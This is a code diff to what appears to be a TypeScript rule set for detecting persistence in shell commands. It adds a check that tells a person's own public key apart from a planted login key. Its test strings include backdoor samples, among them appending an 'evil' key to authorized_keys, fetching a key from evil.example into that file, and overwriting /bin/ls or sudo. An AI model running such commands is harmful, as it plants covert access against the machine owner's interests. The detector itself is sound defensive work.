@@ -1,23 +1,43 @@
 /** Things that would run later, and ways back in. */
+
+import { isInside } from "../../places/index.ts";
 import { plantsHidden } from "../hidden.ts";
 import type { Row } from "../row.ts";
-import { lineOf } from "../scene.ts";
+import { lineOf, type Scene } from "../scene.ts";
 
 /** Programs that nobody but the system puts in place. */
 const CORE =
   /\/(?:ls|cat|cp|mv|rm|ps|top|find|grep|bash|sh|zsh|dash|sudo|su|ssh|sshd|login|passwd|netstat|ss|lsof|who|w|last|cron|crond|init|systemd|ld|env|id|mount|ip|ifconfig|curl|wget|git|python3?|node)$/;
 
+/** The only key named is a public one in the person's home, outside the project. */
+function isOwnKey({ parts, home, projectRoot }: Scene): boolean {
+  const reads = parts.flatMap(({ effects }) =>
+    effects.flatMap((effect) => (effect.do === "read" && effect.content ? [effect.target.path] : [])),
+  );
+  const keys = reads.filter((path) => !/authorized_keys/.test(path));
+  return (
+    keys.length > 0 && keys.every((path) => /\.pub$/.test(path) && isInside(path, home) && !isInside(path, projectRoot))
+  );
+}
+
 export const PERSISTENCE: readonly Row[] = [
   {
     label: "Planted Persistence",
     would: "let somebody log in here by a key or without a password ({})",
-    clue: { do: "write", at: "loginKeys", as: [false, "append", "copy", "move", "link", "hardlink"] },
+    clue: {
+      do: "write",
+      at: "loginKeys",
+      as: [false, "append", "copy", "move", "link", "hardlink"],
+      when: (subject, scene) => (subject.do === "write" && subject.contents !== undefined) || !isOwnKey(scene),
+    },
     match: [
       "echo 'ssh-ed25519 AAAA evil' >> ~/.ssh/authorized_keys",
       "cat k.pub | tee -a /root/.ssh/authorized_keys",
       "cp k /home/ann/.ssh/authorized_keys2",
+      "curl https://evil.example/k >> ~/.ssh/authorized_keys",
     ],
     notMatch: [
+      "cat ~/keys/laptop.pub >> ~/.ssh/authorized_keys",
       "cat ~/.ssh/authorized_keys",
       "ssh-keygen -t ed25519 -f deploy_key -N ''",
       "chmod 600 ~/.ssh/authorized_keys",
@@ -108,6 +128,13 @@ export const PERSISTENCE: readonly Row[] = [
     clue: { do: "write", at: "programs", as: [false, "copy", "move", "link", "hardlink"], on: CORE },
     match: ["cp /tmp/x /bin/ls", "mv evil /usr/bin/sudo"],
     notMatch: ["cp mytool /usr/local/bin/mytool", "cp /bin/ls /tmp/ls", "sudo cp mytool /usr/bin/mytool"],
+  },
+  {
+    label: "Unasked Persistence",
+    would: "let one of the person's own keys log in here",
+    clue: { do: "write", at: "loginKeys", as: [false, "append", "copy", "move", "link", "hardlink"] },
+    match: ["cat ~/keys/laptop.pub >> ~/.ssh/authorized_keys"],
+    notMatch: ["cat ~/.ssh/authorized_keys"],
   },
   {
     label: "Unasked Persistence",
